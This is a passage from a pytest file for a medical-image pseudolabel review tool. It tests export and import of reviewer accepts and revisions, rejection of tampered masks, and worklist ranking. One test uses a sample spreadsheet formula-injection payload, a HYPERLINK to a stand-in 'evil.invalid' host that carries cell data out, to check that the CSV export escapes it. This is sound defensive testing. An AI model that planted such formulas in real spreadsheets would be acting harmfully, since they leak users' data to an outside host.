    edited, approved = export_review(ws.root, ws.read_table("attention").to_pylist(), out, top=2, images=False).cases
    _revise(out / edited)
    shutil.copy(out / approved / "pseudo.nii.gz", out / approved / "revised.nii.gz")  # looked at it: fine
    unchanged: dict[str, str] = {}
    outcome: dict[str, tuple[list[str], list[str]]] = {}
    done, problems = import_review(ws, out, unchanged, outcome)
    assert done == [edited] and problems == [] and outcome[edited][0] and not outcome[edited][1]
    assert list(unchanged) == [approved] and "accept column" in unchanged[approved]
    path = ws.stores_dir / f"{approved}.zarr"
    assert "revised" not in CaseStore(path).layers()  # not reviewed: still on the next worklist
    exported = {t: CaseStore(path).mask(t, "pseudo") for t in CaseStore(path).terms("pseudo")}

    _accept(out, {approved: "All"}, delimiter=";")
    export_review(ws.root, ws.read_table("attention").to_pylist(), out, top=2, images=False,
                  include_reviewed=True)  # exported again into the folder: the accept marks stay
    assert read_accepts_of(out) == {approved: "All"}
    _repseudo(path)  # pseudolabel re-ran between export and import: the reviewer accepted what they saw
    outcome.clear()
    done, problems = import_review(ws, out, outcome=outcome)
    assert problems == [] and approved in done
    assert outcome[approved][:2] == ([], sorted(exported))
    store = CaseStore(path)
    assert sorted(store.terms("revised")) == sorted(exported)
    assert all(np.array_equal(store.mask(t, "revised"), m) for t, m in exported.items())
    release = build_release(ctx)
    labels = [r for r in pq.read_table(release / "labels.parquet").to_pylist() if r["case_id"] == approved]
    assert {r["term_id"]: r["origin"] for r in labels if r["term_id"] in exported} == dict.fromkeys(exported, "revised")
    left = export_review(ws.root, ws.read_table("attention").to_pylist(), tmp_path / "next", top=2, images=False)
    assert approved in left.reviewed and approved not in left.cases


def read_accepts_of(out: Path) -> dict[str, str]:
    from curator.pseudolabel.review_records import read_accepts

    return read_accepts(out)


def test_an_accept_naming_no_structure_of_the_case_or_a_changed_export_is_refused(phantom_ws,
                                                                                  tmp_path: Path) -> None:
    out = tmp_path / "review"
    ws, cases = _exported(phantom_ws, out, top=3)
    typo, tampered, fine = cases
    _accept(out, {typo: "livr", tampered: "all", fine: "liver; aorta"})
    img = nib.load(out / tampered / "pseudo.nii.gz")  # edited in place, not saved as revised.nii.gz
    data = np.asarray(img.dataobj).copy()
    data[: data.shape[0] // 2] = 0
    nib.save(nib.Nifti1Image(data, img.affine), out / tampered / "pseudo.nii.gz")
    outcome: dict[str, tuple[list[str], list[str]]] = {}
    done, problems = import_review(ws, out, outcome=outcome)
    assert done == [fine] and outcome[fine][:2] == ([], ["aorta", "liver"])
    assert sorted(CaseStore(ws.stores_dir / f"{fine}.zarr").terms("revised")) == ["aorta", "liver"]
    why = {p["case_id"]: (p["kind"], p["message"]) for p in problems}
    assert why[typo][0] == "review_accept_invalid" and "'livr', which is no structure" in why[typo][1]
    assert why[tampered][0] == "review_accept_invalid" and "pseudo.nii.gz was changed" in why[tampered][1]
    assert all("revised" not in CaseStore(ws.stores_dir / f"{c}.zarr").layers() for c in (typo, tampered))


def test_top_n_gives_n_cases_not_reviewed_yet(phantom_ws, tmp_path: Path) -> None:
    """--top 2 after the top case was reviewed gave 1 case: N was applied before the reviewed
    cases were left out."""
    out = tmp_path / "review"
    ws, cases = _exported(phantom_ws, out, top=1)
    _revise(out / cases[0])
    assert import_review(ws, out)[0] == cases
    att = ws.read_table("attention").to_pylist()
    res = export_review(ws.root, att, tmp_path / "next", top=2, images=False)
    ranked = [c for _, c in sorted({(r["review_rank"], r["case_id"]) for r in att})]
    assert res.cases == [c for c in ranked if c != cases[0]][:2] and res.reviewed == cases
    assert export_review(ws.root, att, tmp_path / "all", top=2, images=False, include_reviewed=True).cases == ranked[:2]


@pytest.mark.parametrize("how", ["accept", "revise"])
def test_an_imported_review_is_no_revision_an_export_into_its_folder_overwrites(phantom_ws, tmp_path: Path,  # type: ignore[no-untyped-def]
                                                                                 how: str) -> None:
    """After an accept was imported, `review export --include-reviewed` into the same folder was
    refused as holding 'a revision not imported yet' (a revised file imported was not)."""
    out = tmp_path / "review"
    ws, (cid, *_) = _exported(phantom_ws, out, top=1)
    if how == "accept":
        _accept(out, {cid: "all"})
    else:
        _revise(out / cid)
    assert import_review(ws, out) == ([cid], [])
    res = export_review(ws.root, ws.read_table("attention").to_pylist(), out, top=1, images=False,
                        include_reviewed=True)
    assert cid in res.cases


def test_the_worklist_shows_no_formula_and_reads_back_as_written(phantom_ws, tmp_path: Path) -> None:
    """worklist.csv is opened in a spreadsheet: a cell starting `=`/`@`/`-` ran as a formula there (a
    dataset named `-x` gave its case ids `#NAME?`, saved back so). Such cells are quoted with `'`,
    and the import reads them as written."""
    from curator.pseudolabel.review_records import worklist_rows

    ctx, _ = phantom_ws()
    run_stage(ctx, PseudolabelStage)
    att = ctx.workspace.read_table("attention").to_pylist()
    evil = '=HYPERLINK("http://evil.invalid?"&B2,"open")'
    for r in att:
        r["dataset"] = evil
    out = tmp_path / "review"
    res = export_review(ctx.workspace.root, att, out, top=2, images=False)
    with open(out / "worklist.csv", newline="", encoding="utf-8") as f:
        work = list(csv.DictReader(f))
    assert [w["dataset"] for w in work] == ["'" + evil] * len(res.cases)
    assert [w["review_rank"] for w in work] == ["1", "2"]  # numbers stay numbers
    assert all(not v.startswith(("=", "+", "-", "@")) for w in work for v in w.values())
    _accept(out, {res.cases[0]: "all"})
    assert [w["dataset"] for w in worklist_rows(out)] == [evil] * len(res.cases)
